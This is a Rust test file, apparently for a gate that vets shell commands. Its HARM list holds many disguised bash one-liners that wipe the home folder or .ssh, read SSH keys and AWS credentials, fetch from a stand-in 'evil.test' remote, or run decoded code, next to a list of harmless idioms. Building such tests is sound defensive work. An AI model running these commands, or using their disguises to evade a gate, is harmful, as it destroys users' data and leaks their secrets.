//! The shell's state: lines that a real bash was seen to turn into harm, and their harmless twins.

mod house;

use autobelay::{Answer, Gate, Question, Settings, Surroundings, Verdict};
use house::verdict;

/// Each deletes the home folder or the repository, or runs code that nobody read, in some run of a real bash.
const HARM: &[&str] = &[
    // The names of the search are not what is deleted.
    "find build -name '*.o' | xargs -a list rm -f",
    "find build -name '*.o' | xargs -ra list rm -f",
    "find build -name '*.o' | xargs --arg=list rm -f",
    "find build -name '*.o' | xargs -d . rm -rf",
    "git ls-files --others | xargs --delimiter=/ rm -rf",
    "python3 -c \"import os, shutil; os.symlink(os.path.expanduser('~'), 'h'); shutil.rmtree('h/notes')\"",
    "git stash -u; git stash drop",
    "git stash && git stash clear",
    "git remote add evil https://evil.test/x && git fetch evil",
    "git remote set-url origin https://evil.test/x && git ls-remote origin",
    "curl https://api.github.com/users/$FOO",
    "curl \"https://api.github.com/x?$(git remote get-url origin | sed 's/x//')\"",
    "find . -delete -name '*.pyc'",
    "find . -exec rm {} + -name '*.pyc'",
    "find . -name '*.pyc' -print , -delete",
    "find ~ -iname .SSH -exec rm -rf {} +",
    "for f in $(ls --file-type); do cat $f; done",
    "for f in $(dir); do cat $f; done",
    // A pattern may name what the call wrote.
    "echo 'rm -rf ~' > x; source [x]",
    "echo 'rm -rf ~' > x; sh ./x*",
    // Each shell reads in its own way.
    r##"zsh -c 'echo "#\nrm -rf /home/me" | sh'"##,
    r##"sh -c 'echo "#\nrm -rf /home/me" | sh'"##,
    "sh -c 'cat .*/.ssh/id_rsa'",
    // What a list is parted at, a name in it is too.
    "IFS=$'\\n/'; for d in $(find build -name '*.o'); do rm -rf \"$d\"; done",
    "ls build | while IFS=a read d e; do rm -rf \"$e\"; done",
    // What a trap sets, what a caller hid, what a link leads to.
    "trap 'IFS=/' ERR; x=/tmp/a/home/me; false; rm -rf ${x#/tmp}",
    "f() { local d=/tmp/a; g; }; g() { unset d; d=/home/me; }; f; rm -rf \"$d\"",
    "mkdir -p /tmp/l; ln -s /home/me/proj /tmp/l/j; rm -rf /tmp/l/j/../.ssh",
    "ln -s own.sh b.sh; echo 'rm -rf ~' > b.sh; sh b.sh",
    "d=/home/me; declare d={/tmp/a,/home/me}; rm -rf \"$d\"",
    "rm -rf \"$!\"/home/me",
    "d=/home/me; read d <&-; rm -rf \"$d\"",
    "d=/home/me; f() { shopt -s localvar_inherit; local d; rm -rf \"$d\"; }; f",
    // What waits for a signal may run at any moment, in whatever folder, and calls what a function means by then.
    "trap 'd=/home/me' TERM; d=/tmp/a; rm -rf \"$d\"",
    "trap f USR1; f() { d=/home/me; }; d=/tmp/a; rm -rf \"$d\"",
    "trap 'rm -rf notes' EXIT; cd /home/me; ls; cd proj",
    "d=/home/me; f() { false; d=/tmp/a; }; trap return ERR; f; rm -rf \"$d\"",
    "shopt -s extdebug; d=/home/me; trap false DEBUG; d=/tmp/a; trap - DEBUG; rm -rf \"$d\"",
    "coproc d { :; }; d=build; sleep 1; rm -rf \"$d/home/me\"",
    // Options come back, references stand for others, letters are bytes.
    "f() { local -; set -f; }; f; rm -rf ../not*",
    "declare -n r=d; d=/tmp/a; declare r=/home/me; rm -rf \"$d\"",
    "declare -n r=d; d=/home/me; readonly r; d=/tmp/a; rm -rf \"$d\"",
    "shopt -s inherit_errexit; set -e; rm -rf \"$(false; echo build)/home/me\"",
    "x='é/home/me'; rm -rf \"${x:2}\"",
    "d=build; printf '%s%n' /home/me d; rm -rf \"/home/m${d/8/e}\"",
    "declare() { :; }; d=(/tmp/a); declare -a d=(/home/me); rm -rf \"$d\"",
    "eval() { d=/home/me; }; d=/tmp/a; command eval 'eval a'; rm -rf \"$d\"",
    // A file's text is no empty text.
    ". $(<f)",
    "bash -c \"$(<f)\"",
    "eval \"$(<f)\"",
    // Output goes where descriptors lead.
    "{ echo 'rm -rf ~' >&2; } 2>&1 | sh",
    "{ echo 'rm -rf ~' >&3; } 3>&1 | sh",
    "echo 'rm -rf ~' >/dev/stdout | sh",
    "echo 'rm -rf ~' |& sh",
    "bash < cmds 9<<< ls",
    "bash 3<<< 'ls' <&3 < cmds",
    "exec 3<<< 'rm -rf /home/me'; sh <&3",
    "exec &>x.sh; echo 'rm -rf ~'; bash x.sh",
    "exec > x.sh; echo 'rm -rf ~'; exec > /dev/tty; bash x.sh",
    // A folder that was perhaps not entered is one that a loop is in, too; of a made-up name no letter is known.
    "cd /home/me/x; cd build; for d in \"$PWD\"; do rm -rf \"$d/notes\"; done",
    "x=$(mktemp -d); d=/home/me; [ ${#x} = 19 ] && d=build; rm -rf \"$d\"",
    "n=08; d=/home/me; [ \"$n\" -lt 9 ] || d=build; rm -rf \"$d\"",
    "d=/home/me; (( 1 < 2 )) || d=build; rm -rf \"$d\"",
    // What stands beside a number is split with it, and searched for.
    "n=$(date +%s); x=\"build/a $n /home/me/x\"; rm $x",
    "x=$((m)); x+=' /home/me/x'; rm $x",
    "x=\"/home/me/$((m))*\"; rm $x",
    // A folder that may have been made takes what is copied to its name.
    "echo 'rm -rf ~' > x; mkdir w; cp x w; bash w/x",
    "echo 'rm -rf ~' > x; (mkdir w); cp x w; bash w/x",
    "echo 'rm -rf ~' > x; git init -q w; cp x w; bash w/x",
    // What is required was written here.
    "mkdir -p node_modules/q; echo 'require(\"child_process\").execSync(\"rm -rf ~\")' > node_modules/q/index.js; node -e 'require(\"q\")'",
    "echo 'rm -rf /home/me/${BASH_SUBSHELL:+x}' | sh",
    // What runs beside the shell may find what is written later.
    "coproc { sleep 1; bash own.sh; }; echo 'rm -rf ~' > own.sh; wait",
    "echo a > >(sleep 1; bash own.sh); echo 'rm -rf ~' > own.sh; sleep 2",
    "read x < <(echo a; sleep 1; bash own.sh); echo 'rm -rf ~' > own.sh",
    "gzip -c <<< 'rm -rf ~' > own.sh.gz; gunzip -f own.sh.gz; bash own.sh",
    // A plain sh has no UID; titles of commits are no numbers, nor are names of files.
    "sh -c 'rm -rf \"/home/me${UID:+/proj/build}/notes.txt\"'",
    "x=$(git log -1 --format=%s); echo $((x))",
    "for f in src/*; do a[${f#src/}]=1; done",
    "ls src | while read -r f; do [[ $f -gt 3 ]] && echo y; done",
    "setsid -f bash own.sh; echo 'rm -rf ~' > own.sh",
    "setsid --fork sh -c 'sleep 1; bash own.sh'; echo 'rm -rf ~' > own.sh",
    "setsid -f sh -c 'sleep 1; rm -rf /tmp/j/notes'; ln -s /home/me /tmp/j",
    // What a program makes of something else, nobody read.
    "openssl enc -d -aes-256-cbc -pass pass:x -in a -out x; bash x",
    "openssl base64 -d -in a -out m.py; python3 m.py",
    "openssl base64 -d -in a -out conftest.py; pytest",
    "git merge-file run.sh b c; sh run.sh",
    "script -c 'echo a' x; sh x",
    "objcopy -O binary a x; ./x",
    // A folder that is run runs what was written into it.
    "echo 'require(\"child_process\").execSync(\"rm -rf ~\")' > index.js; node .",
    "mkdir -p m; echo 'import os; os.system(\"rm -rf ~\")' > m/__main__.py; python3 m",
    // Code that reads a folder reads what is in it.
    "python3 -c \"import shutil; shutil.copytree('/home/me', 'x')\"",
    "python3 -c \"import shutil; shutil.make_archive('x', 'zip', '/home/me')\"",
    // What may not have happened counts both ways.
    "c=\"rm -rf /home/me\"; true || c=ls; $c",
    "c=\"rm -rf /home/me\"; false && c=ls; $c",
    "D=$HOME; [ -z \"$D\" ] && D=build; rm -rf \"$D\"",
    "D=$HOME; test -f x && D=build; rm -rf \"$D\"",
    "cd /tmp/nope || exit 1 & rm -rf .git",
    "cd /tmp/nope; cd sub; rm -rf .git",
    "cd /tmp/nope && true; rm -rf .git",
    "f() { cd /tmp/nope || return; }; f; rm -rf .git",
    "set -e; cd /tmp/nope || true; rm -rf .git",
    "set -- ls; while \"$@\"; do set -- rm -rf ~; done",
    "x=build; while read l; do x=/home/me; done; rm -rf $x",
    "x=a; for i in 1 2 3 4 5; do y=$x; x=$z; z=/home/me; done; rm -rf $y",
    "for x in; do d=/tmp/a; done; d=${d:-/home/me}; rm -rf $d",
    "f(){ local d=/tmp/a; }; d=/home/me; f; rm -rf \"$d\"",
    "f(){ declare d=/tmp/a; }; d=/home/me; f; rm -rf \"$d\"",
    "x=/tmp/a; declare -n r=x; r=/home/me; rm -rf \"$x\"",
    "readonly d=/home/me; export d=/tmp/a; rm -rf $d",
    "readonly d=/home/me; d=/tmp/a true; rm -rf $d",
    "a=(echo rm -rf ~); unset \"a[0]\"; \"${a[@]}\"",
    "a=(/tmp/a); printf -v 'a[0]' %s /home/me; rm -rf \"${a[0]}\"",
    "a=(/tmp/a); read 'a[0]' <<< /home/me; rm -rf \"${a[0]}\"",
    "set -- rm -rf ~; shift 99; \"$@\"",
    "set -- echo rm -rf ~; shift $n; \"$@\"",
    "set -- \":;\" rm -rf ~; bash -c \"$*\"",
    "IFS=:; a=(/tmp/x:/home/me); rm -rf ${a[@]}",
    "read -N 1 d <<< /tmp/x; rm -rf $d",
    "read -d e d <<< /home/me; rm -rf $d",
    "{ read a; read d; } <<< $'/tmp/a\\n/home/me'; rm -rf $d",
    "true | trap 'rm -rf ~' EXIT",
    "trap 'rm -rf ~' EXIT & wait",
    "d=/home/me; trap 'rm -rf $d' EXIT; set -e; false; d=/tmp/a",
    "jobs -x rm -rf /home/me",
    "for i in $(help); do rm -rf ~; done",
    "for i in $(type ls); do rm -rf ~; done",
    "shopt -s lastpipe; d=/tmp/a; echo /home/me | read d; rm -rf $d",
    "set -k; ls PATH=/tmp/evil",
    "shopt -s dotglob; rm -rf *",
    "pushd /home/me/.aws && pushd /tmp && cat ~1/credentials",
    "let PATH=1; ls",
    "for PATH in /tmp/evil; do ls; done",
    "read PATH <<< /tmp/evil; ls",
    "cp evil ls; unset PATH; ls",
    "PATH=; ls",
    "ls=1; ls(){ rm -rf ~; }; unset ls; ls",
    "f(){ rm -rf ~; }; export -f f; bash -c f",
    "command_not_found_handle() { rm -rf ~; }; nosuch",
    "rm -rf \"$(cd /tmp/nope; pwd)\"/.git",
    "TRAPEXIT() { rm -rf /home/me; }; true",
    "PWD=/tmp/a; cd ..; rm -rf \"$PWD\"",
    "rm -rf \"$TMPDIR\"/home/me",
    "printf \"d=%s\\n\" /home/me > v; d=/tmp/a; . ./v; rm -rf \"$d\"",
    "sleep 2 && sh x & echo \"rm -rf /home/me\" > x; wait",
    "declare -l x=/HOME/ME/.AWS/CREDENTIALS; cat $x",
    "if false; then x=aaaaaaaaaa; for i in {1..60}; do x=$x$x; done; fi; rm -rf /home/me",
    "x=aaaaaaaaaa; for i in {1..60}; do x=$x$x; done; rm -rf /home/me",
    "a=(x); for i in {1..60}; do a=(\"${a[@]}\" \"${a[@]}\"); done; rm -rf /home/me",
    "set -- x; for i in {1..60}; do set -- \"$@\" \"$@\"; done; rm -rf /home/me",
    "env 'BASH_FUNC_ls%%=() { rm -rf ~/; }' bash -c ls",
    "true || rm -rf ~",
    "exit 0; rm -rf ~",
    "if false; then rm -rf ~; fi",
    "while false; do rm -rf ~; done",
    "printf 'rm '; { printf 'rm '; printf -- '-rf ~'; } | sh",
    "case x in $(( echo }{ ; rm -rf ~ ))) ;; esac",
    "trap 'd=/home/me' DEBUG; d=/tmp/a; rm -rf $d",
    "exec {fd}>x.sh; echo 'rm -rf ~' >&$fd; sh x.sh",
    "$cmd; d=/tmp/a; $cmd2; rm -rf $d",
    "jobs \"$flag\" rm -rf ~",
    "python3 gen.py > bin/activate; d=build; . bin/activate; rm -rf \"$d\"",
    // A word behind `declare` is not split.
    "x='build /home/me'; IFS=:; y='/home/me:a'; f() { local d=${y%:*}; rm -rf \"$d\"; }; f",
    "IFS=/; x='build/../..'; declare d=$x; rm -rf \"$d\"",
    // Names with other separators than line ends are one word.
    "IFS=:; for f in $(find build ..); do rm -rf \"$f\"; done",
    // An expansion that fails gives up the whole line, with all loops it stands in.
    "d=/home/me; for i in a; do z=$((n)); d=build; done\nrm -rf \"$d\"",
    "d=/home/me; for d in \"${x:n}\" build; do ls; done\nrm -rf \"$d\"",
    "d=/home/me; set \"$((n+=1))\" \"$(d=a; echo b)\" $((d=1))\nrm -rf \"$d\"",
    "d=/home/me; y=$(< b) && d=build; rm -rf \"$d\"",
    "declare -A m=([a]=b); rm -rf \"/home/me${m+/build}\"",
    // A descriptor whose number nobody knows writes to any file.
    "exec {fd}>x.sh; echo ls > x.sh; echo 'rm -rf ~' >&$fd; sh x.sh",
    // Names count without regard to case, numbers may be octal, and prefixes keep no attribute.
    "shopt -s nocasematch; x=A; rm -rf \"${x/a/$HOME}\"",
    "x=abcdefgh/home/me; rm -rf \"${x:010}\"",
    "declare -l d; d=/home/ME sh -c 'rm -rf \"/HOME/../$d\"'",
    // A program that may read the list leaves the end of a name behind.
    "git ls-files | while read -r f; do xargs -n 1 < /dev/stdin; rm -rf \"$f\"; done",
    // A list in one case is none in the other, a long listing is none, and no list has another text behind it.
    "rm -rf $(if ls build; then false; else echo $HOME; fi)",
    "x=$(if ls build; then false; else echo $HOME; fi); rm -rf $x",
    "rm -rf $(ls -l build/*)",
    "x=$(ls build/*.o)/home/me; rm -rf $x",
    "x=$(ls /home/me/* | head -1); rm -rf \"$x\"",
    "x=$(ls build/*); IFS=/; rm -rf $x",
    "x=$(find build -name '*.o'); x+=\" $HOME\"; rm -rf $x",
    "for f in /home/me/*; do export X=\"$f\"; done; rm -rf \"$X\"",
    "x=$(ls build/*.o | head -1); rm -rf \"$x/\"*",
    "cat $(ls -A)",
    // A value passes from one variable to the next, one in each round.
    "a=/tmp/a b=$a c=$a d=$a e=$a f=$a g=$a h=$a i=$a j=$a k=$a l=$a m=$a n=$a o=$a p=$a; for q in $(seq 30); do rm -rf \"$a\"; a=$b; b=$c; c=$d; d=$e; e=$f; f=$g; g=$h; h=$i; i=$j; j=$k; k=$l; l=$m; m=$n; n=$o; o=$p; p=/home/me; done",
    // The last of the names that were found is not the only one.
    "cd ~; a=(*); rm -rf ${a[*]}.bak",
    // Of Bourne's shells some end where a special command fails.
    "x=$(sh -c 'shift 2; echo /tmp/a'); rm -rf \"$x\"/home/me",
    "x=$(sh -c 'set -o nope; echo /tmp/a'); rm -rf \"$x\"/home/me",
    "x=$(sh -c 'y=a; z=${y/a/b}; echo /tmp/a'); rm -rf \"$x\"/home/me",
    "x=$(sh -c 'exec 3< /nope; echo /tmp/a'); rm -rf \"$x\"/home/me",
    "x=$(sh -c 'export 1x=2; echo /tmp/a'); rm -rf \"$x\"/home/me",
    // Others lack a command, an operator or a comparison.
    "sh -c 'x=/tmp/a; x=/home/me :; rm -rf \"$x\"'",
    "sh -c 'x=/home/me; [[ a ]] && x=/tmp/a; rm -rf \"$x\"'",
    "sh -c 'x=/home/me; [ a == a ] && x=/tmp/a; rm -rf \"$x\"'",
    "sh -c 'x=/home/me; test a == a && x=/tmp/a; rm -rf \"$x\"'",
    "sh -c 'x=/home/me; x+=/../../tmp/a; rm -rf \"$x\"'",
    "sh -c 'x=/home/me; printf -v x %s /tmp/a; rm -rf \"$x\"'",
    // The last part of a pipe may run in the shell itself, and so does what it leaves for the end.
    "shopt -s lastpipe; x=/tmp/a; true | trap 'rm -rf \"$x\"' EXIT; x=/home/me",
    "trap 'rm -rf \"$t\"' EXIT; set -e; t=/home/me; false; t=$(mktemp -d)",
    "for d in ../*/; do (cd \"$d\" && rm -rf .ssh); done",
    "for d in */; do (cd \"$d\" && rm -rf ../../.ssh); done",
    "for d in *; do (cd \"$d\" && rm -rf .ssh); done",
    "ln -s ~ build/h; for d in build/*/; do (cd \"$d\" && rm -rf .ssh); done",
    "for d in build/.*/; do (cd \"$d\" && rm -rf .ssh); done",
    // Of what is no array a slice takes letters.
    "A=x/home/me; rm -rf \"${A[@]:1}\"",
    // The process that makes a redirection takes what it set with it.
    "x=; cat <<E\n${x:=/tmp/a}\nE\nrm -rf \"${x:-/home/me}\"",
    "unset x; ls > \"/tmp/${x:=a}\"; rm -rf \"${x-/home/me}\"",
    "unset x; (true) <<< \"${x:=/tmp/a}\"; rm -rf \"${x-/home/me}\"",
    // A link leads there whichever process made it, copied it or finds it.
    "mkdir -p /tmp/l; ln -s /home/me/proj /tmp/l/j | cat; rm -rf /tmp/l/j/../.ssh",
    "true | ln -s /home/me /tmp/j; rm -rf /tmp/j/.ssh",
    "{ sleep 1; rm -rf /tmp/j/.ssh; } & ln -s /home/me /tmp/j; wait",
    "ln -s /home/me /tmp/j; cp -a /tmp/j /tmp/k; rm -rf /tmp/k/.ssh",
    "ln -s /home/me /tmp/j; mv /tmp/j /tmp/k; rm -rf /tmp/k/.ssh",
    "ln -s /home/me /tmp/j; d=$(realpath /tmp/j); rm -rf \"$d\"/.ssh",
    "ln -s -t /tmp /home/me; rm -rf /tmp/me/.ssh",
    // Whoever moves the folder we are in moves us.
    "mkdir -p /tmp/l && cd /tmp/l && mv /tmp/l /home/me/l | cat; rm -rf ../.ssh",
    // What was set before an expansion failed is set.
    "x=/tmp/a n=1/0\nx=/home/me x=$((n))\nrm -rf \"$x\"",
    "x=/home/me; UID=1 x=/tmp/a\nrm -rf \"$x\"",
    "BASH_ARGV0=/home/me; rm -rf \"$0\"",
    "BASH_ARGV0=/home/me; set -- /tmp/a; rm -rf \"${@:0}\"",
    // A wildcard may mean a part of the way to somebody's home.
    "cat /*/*/.ssh/*",
    "cat /*/*/.aws/credentials",
    "cat /*/me/.ssh/*",
    "for f in /*/*/.ssh/*; do cat $f; done",
    "find /*/* -name id_rsa -exec cat {} +",
    "cat /*/.ssh/id_*",
    // So may one in the name of a folder that is read whole, and a name that a program prints.
    "grep -rn KEY /home/*",
    "rg -uu KEY /home/*",
    "tar cf - /home/* | cat",
    "cp -r /home/* /tmp/x",
    "for d in /home/*; do grep -r KEY \"$d\"; done",
    "for d in /*/*; do grep -r KEY \"$d\"; done",
    "u=$(whoami); grep -r KEY /home/$u",
    "u=$(whoami); tar cf - /home/$u | cat",
    "u=$(whoami); rm -rf /home/$u",
    // A folder of secrets is found by its name, and read whole.
    "find / -type d -name .ssh -exec grep -r . {} +",
    "find / -maxdepth 3 -name .ssh | xargs grep -r .",
    "find ~ -type d -name '.s*' -exec grep -r . {} +",
    // What is counted and compared, and what a test that was not asked would have set.
    "d=/home/me; for (( n=2; n<2; n++ )); do d=build; done; rm -rf \"$d\"",
    "d=/home/me n=7; (( n % 2 == 0 )) && d=build; rm -rf \"$d\"",
    "d=/home/me n=0; [[ -n a || $((n=1)) -eq 1 ]]; [ $n = 1 ] && d=build; rm -rf \"$d\"",
    "d=/home/me; let 'n=$(echo 1)' && d=build; rm -rf \"$d\"",
    "printf -v d '%.8s' /home/meadow; rm -rf \"$d\"",
    // A test says what a variable holds where it held, and nowhere else.
    "[ \"$d\" = build ] && true; rm -rf \"$d\"",
    "[[ $d == build ]] || d=/home/me; rm -rf \"$d\"",
    "case $d in build) ;; esac; rm -rf \"$d\"",
    "[ \"$d\" = build ] || exit; d=/home/me; rm -rf \"$d\"",
    "[ -z \"$d\" ] && rm -rf \"$d/home\"",
    // One key of an array is not another.
    "declare -A m=([a]=build); m[$x]=/home/me; rm -rf \"${m[a]}\"",
    "declare -A m=([a]=build [b]=/home/me); rm -rf \"${m[b]}\"",
    "a=(build dist); : \"${a[4]:=/home/me}\"; rm -rf \"${a[@]}\"",
    "declare -A m=([a]=build); declare m[a]=~; rm -rf \"${m[a]}\"",
];

#[test]
fn what_bash_turns_into_harm_is_never_allowed() {
    let allowed: Vec<&&str> = HARM
        .iter()
        .filter(|it| verdict(it) == Verdict::Allow)
        .collect();
    assert!(allowed.is_empty(), "{allowed:#?}");
}

/// Everyday idioms.
const HARMLESS: &[&str] = &[
    "git remote add up https://github.com/a/b && git fetch up",
    "curl -s https://api.github.com/repos/o/r/commits/$(git rev-parse HEAD)/status",
    "for i in $(seq 1 5); do curl -s https://api.github.com/x/$i; done",
    "curl -s http://localhost:3000/api/users/$ID",
    "curl -L https://github.com/a/b/releases/download/v1/x-$(uname -s)-$(uname -m)",
    "find . -not -path './.git/*' -name '*.pyc' -delete",
    "find . -name node_modules -prune -o -name '*.pyc' -exec rm {} +",
    "find . -name '*.pyc' ! -path '*/vendor/*' -print -delete",
    "set -euo pipefail; cd \"$(dirname \"$0\")/..\"; ls",
    "for f in src/*.ts; do wc -l \"$f\"; done",
    "echo \"${x:-default}\"",
    "declare -A m=([a]=1 [b]=2); for k in \"${!m[@]}\"; do echo \"$k\"; done",
    "tmp=$(mktemp -d); trap 'rm -rf \"$tmp\"' EXIT; ls",
    "tmp=$(mktemp -d) || exit 1; cd \"$tmp\" && ls",
    "size=$(du -sk . | cut -f1); echo $((size/1024))",
    "find \"$DIR\" -name '*.log'",
    "for i in 1 2 3; do echo $i; done",
    "i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done",
    "x=$(git rev-parse HEAD); git show --stat $x",
    "if [ -f package.json ]; then cat package.json; else echo none; fi",
    "f() { local d=build; rm -rf \"$d\"; }; f",
    "d=build; rm -rf \"$d\"",
    "for d in build dist; do rm -rf \"$d\"; done",
    "D=; [ -z \"$D\" ] && D=build; rm -rf \"$D\"",
    "set -- a b c; echo \"$@\"; shift; echo \"$1\"",
    "IFS=, read -r a b <<< 'x,y'; echo \"$a\"",
    "case \"$1\" in start) echo a;; *) echo b;; esac",
    "echo hi 2>&1 | grep h",
    "exec 3>&1; echo x >&3",
    "cat <<'E' > notes.txt\nhello\nE\ncat notes.txt",
    "files=(src/*.rs); echo \"${#files[@]}\"",
    "name=${file##*/}; echo \"${name%.txt}\"",
    "x=a.tar.gz; rm -f \"build/${x%.gz}\"",
    "out=$(npm test 2>&1); echo \"$out\" | tail -5",
    "npm test > test.log 2>&1 || cat test.log",
    "git status --short | while read -r s f; do echo \"$f\"; done",
    "ls | xargs -n1 echo",
    "true && echo ok || echo failed",
    "sleep 1 & wait; echo done",
    "source .venv/bin/activate && python -m pytest",
    // What is deleted with all that is in it cannot be harmed more by a file that is named like a flag.
    "cd build && rm -rf *",
    "for f in scripts/*.sh; do bash -n \"$f\"; done",
    "while read -r hash _; do git show \"$hash\"; done < <(git log --format=%H)",
    "git log --format=%h -5 | while read -r hash; do git show --stat \"$hash\"; done",
    "declare -A m=([a]=1); for k in \"${!m[@]}\"; do echo \"$k=${m[$k]}\"; done",
    "cd /tmp && git init demo",
    "for f in $(find . -name '*.py'); do wc -l \"$f\"; done",
    "for f in $(git ls-files '*.py'); do wc -l \"$f\"; done",
    "x=README.MD; cat \"${x,,}\"",
    "x=build/a.ts; rm -f \"${x/.ts/.js}\"",
    "f() { local x=$1; rm -rf \"build/$x\"; }; f 'a b'",
    // Arrays and functions in one script.
    "files=(a b)\ncheck() {\n  wc -l \"$1\"\n}\nfor f in \"${files[@]}\"; do check \"$f\"; done",
    "a=(x y)\nf() { echo \"${a[-1]}\"; }\nf > \"build/${a[-1]}.log\"",
    // Operators on texts that are known.
    "v=v1.2.3; d=${v//[.v]/_}; mkdir -p \"build/$d\"",
    "n=report; touch \"build/${n^}.txt\"",
    "a=(x y); touch \"${a[@]/#/build/}\"",
    "IFS=/ read -r a b <<< 'x/y'; echo \"$a\"",
    // Whoever names the files it reads leaves the rest of the list to the loop.
    "git diff --name-only | while read -r f; do cat \"$f\"; done",
    "git ls-files '*.md' | while read -r f; do grep -n TODO \"$f\"; head -3 \"$f\"; done",
    "find src -name '*.ts' | while read -r f; do wc -l \"$f\"; sort \"$f\"; done",
    "git branch --format='%(refname:short)'",
    // What lists and one line of them look like is known in a variable, too.
    "f=$(ls -t src/*.ts | head -1); cat \"$f\"",
    "cat \"$(ls -t src/*.ts | head -n 1)\"",
    "tail -50 \"$(ls -t logs/*.log | tail -1)\"",
    "files=$(git diff --name-only); for f in $files; do wc -l \"$f\"; done",
    "files=$(find src -name '*.ts'); wc -l $files",
    "x=$(find build -name '*.o'); rm -f $x",
    "git diff $(git merge-base main HEAD)..HEAD",
    "b=$(git merge-base main HEAD); git diff --stat \"$b\"",
    "git diff $(git rev-parse HEAD~1)..HEAD",
    "ls | while read f; do cat \"$f\"; done",
    "ls *.md | while IFS= read -r f; do echo \"== $f\"; cat \"$f\"; done",
    "ln -s own.sh b.sh && sh b.sh",
    // What a declaration holds, and which arm a known text takes, is known.
    "f() { local all=(build/a build/b); rm -f \"${all[@]}\"; }; f",
    "declare -A m=([a]=b [c]=d); for k in \"${!m[@]}\"; do rm -f \"build/$k\"; done",
    "x=a; case $x in a) d=build ;; *) d=$HOME ;; esac; rm -rf \"$d\"",
    "CDPATH= cd src && cat a.ts",
    "a=(x y); [ \"${a[0]}\" = x ] && (( ${#a[@]} > 1 )) && echo yes",
    "npm run dev & pid=$!; sleep 1; kill $pid",
    // In which of the folders that a search found we are need not be known.
    "for p in packages/*/; do (cd \"$p\" && rm -rf dist); done",
    "for d in packages/*/; do rm -rf \"${d}dist\" \"${d%/}/build\"; done",
    // Who left before the trap was set never meets it.
    "set -euo pipefail; tmp=$(mktemp -d); trap 'rm -rf \"$tmp\"' EXIT; cp README.md \"$tmp/\"",
    // Code that waits for a signal changes what it says, and no more.
    "tmp=$(mktemp -d); cleanup() { rc=$?; rm -rf \"$tmp\"; exit $rc; }; trap cleanup EXIT INT TERM; ls",
    "d=build; trap 'stop=1' TERM; rm -rf \"$d\"",
    "n=0; trap 'n=$((n+1))' ERR; rm -rf build",
    "trap 'echo failed; exit 1' ERR; rm -rf build",
    "f() { local -; set -f; }; f; rm -rf build/*",
    "declare -n r=d; d=build; rm -rf \"$d\"",
    "for i in 1 2 3; do rm -f \"build/$(printf %03d $i).log\"; done",
    "rm -f \"build/t${PIPESTATUS[0]}\"",
    "d=$(printf %q build); rm -rf \"$d\"",
    // What lines begin with is known behind a pipe, too.
    "git log --oneline | awk '{print $1}' | while read h; do git show --stat \"$h\"; done",
    "git log --format='%h %s' | head -5 | while read -r h s; do git diff-tree -r --name-only \"$h\"; done",
    "for b in $(git branch --format='%(refname:short)'); do git log -1 --oneline \"$b\"; done",
    "grep -rl old src | while read -r f; do sed -i 's/a/b/' \"$f\"; done",
    // Operators on names that a search finds.
    "for f in build/*.ts; do rm -f \"${f%.ts}.js\"; done",
    "for f in build/*.ts; do rm -f \"${f/.ts/.js}\"; done",
    "for f in build/*.JPG; do touch \"${f,,}\"; done",
    "for f in src/*.ts; do n=${f##*/}; touch \"build/${n%.ts}.js\"; done",
    "for f in src/*.ts; do touch \"${f%/*}/index.ts\"; done",
    "(( n = 2 )); touch \"build/$n.txt\"",
    // What a redirection sets here stays; what is only read from it changes nothing.
    "x=; : <<E\n${x:=build}\nE\nrm -rf \"$x\"",
    "f=build/a.log; echo a > \"$f\"; rm -f \"$f\"",
    "d=build; (cd \"$d\" && ls) > \"$d.log\"; rm -rf \"$d\"",
    "a=(build/a build/b); rm -f \"${a[@]: -1}\"",
    "set -- build/a build/b; rm -f \"${@: -1}\" \"${@:1:1}\"",
    "n=$(wc -l package.json | cut -d' ' -f1); echo $((n + 1))",
    "total=0; for f in src/*; do s=$(stat -c %s \"$f\"); total=$((total + s)); done",
    "mkdir -p build/w && cp src/a.ts build/w && cat build/w/a.ts",
    "npm run build && cp build/a.js build/b.js",
    "diff <(sort package.json) <(sort README.md) > build/d.txt; npm test > >(tee build/log.txt) 2>&1",
    "o='--a=b c [x]'; n=$((n + 1)); echo \"$n\"",
    "url='http://localhost:3000/?a=b&c=d'; n=$((n + 1)); echo \"$n\"",
    // Numbers, counts and comparisons that are known.
    "d=build; (( 3 > 2 )) || d=$HOME; rm -rf \"$d\"",
    "n=2; d=$HOME; [ \"$n\" -lt 3 ] && d=build; rm -rf \"$d\"",
    "n=2; d=$HOME; [[ $n -eq 2 ]] && d=build; rm -rf \"$d\"",
    "set -- a b; d=build; [ $# -eq 2 ] || d=$HOME; rm -rf \"$d\"",
    "x=abc; d=build; [ ${#x} -gt 2 ] || d=$HOME; rm -rf \"$d\"",
    "declare -A m=([build/x]=1); for k in \"${!m[@]}\"; do rm -f \"$k\"; done",
    // Patterns of what is read, in the project and where no home can be.
    "grep -rn x src",
    "grep -R TODO .",
    "cat */package.json",
    "cat */*/package.json",
    "for d in */; do grep -rn TODO \"$d\"; done",
    "grep -rn x /usr/include/*",
    "cat /proc/*/status",
    "ls ~/",
    "ls /home/*",
    "ls -la /*/*",
    "du -sh /home/*",
    "find / -name '*.h' 2>/dev/null | head",
    "find . -type d -name src -exec grep -rn x {} +",
    "find packages -maxdepth 2 -type d -name test | xargs grep -rn x",
    "find /usr -type d -name python3 -exec grep -rn x {} +",
    "for d in ../*; do ls \"$d\"; done",
    "b=$(git branch --show-current); cat \"build/$b/log.txt\"",
    "tee build/*.log < a",
    // What is left running, made of something else or run as a folder, and meets nothing new.
    "setsid -f npm run dev",
    "setsid -f npm run dev > build/dev.log 2>&1",
    "black src/a.py && python3 src/a.py",
    "gcc -o build/app src/a.c && ./build/app",
    "openssl req -x509 -newkey rsa:2048 -keyout k.pem -out c.pem -nodes && npm run dev",
    "openssl base64 -d -in a -out data.bin; ls -l data.bin",
    "echo 'console.log(1)' > index.js; node .",
    "mkdir -p m; echo 'print(1)' > m/__main__.py; python3 m",
    "python3 -c \"import shutil; shutil.copytree('src', '/tmp/x')\"",
    "ls -t build/*.log | tail -n +3 | xargs rm -f",
    "find . -type f -name '*.ts' | xargs grep -l TODO",
    // What is counted, asked and kept by keys.
    "case $target in build|dist) rm -rf \"$target\" ;; esac",
    "[ \"$target\" = build ] && rm -rf \"$target\"",
    "[[ $target == build && -d build ]] && rm -rf \"$target\"",
    "declare -A out=([a]=build [b]=dist); rm -rf \"${out[a]}\"/x \"${out[b]}\"",
    "for (( i=1; i<=3; i++ )); do rm -rf \"build/part$(( i % 2 ))\"; done",
    "set -- build dist; while [ $# -gt 0 ]; do rm -rf \"$1\"; shift; done",
